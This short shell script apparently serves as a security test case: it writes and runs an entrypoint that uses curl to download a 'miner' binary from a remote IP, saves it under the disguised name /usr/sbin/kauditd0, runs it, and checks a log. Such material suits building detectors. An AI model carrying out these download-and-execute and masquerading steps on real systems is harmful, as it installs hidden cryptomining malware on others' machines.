#!/bin/sh
. /opt/case/case.sh

cat >/opt/entrypoint.sh <<'END'
#!/bin/sh
curl -s http://203.0.113.10/programs/miner -o /usr/sbin/kauditd0
chmod 755 /usr/sbin/kauditd0
/usr/sbin/kauditd0 burn >/tmp/log
END
sh /opt/entrypoint.sh
grep -q status /tmp/log
took_place
